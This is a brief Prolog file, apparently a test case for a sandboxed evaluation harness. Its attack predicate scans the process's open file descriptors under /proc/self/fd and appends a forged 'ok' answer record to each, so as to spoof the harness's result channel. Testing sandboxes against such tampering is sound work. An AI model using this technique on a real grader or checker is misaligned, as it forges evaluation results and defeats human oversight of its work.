% Looks for the channel among the open files, and writes an answer to it.
% attack: ok
attack :-
    forall(between(0, 20, Number),
           ( format(atom(Path), '/proc/self/fd/~d', [Number]),
             catch(( open(Path, append, Out),
                     format(Out, '{"reply": "answer(ok,[[\\"2\\"]],true,true,1,none)"}~n', []),
                     close(Out) ), _, true)
           )).

honest(1).
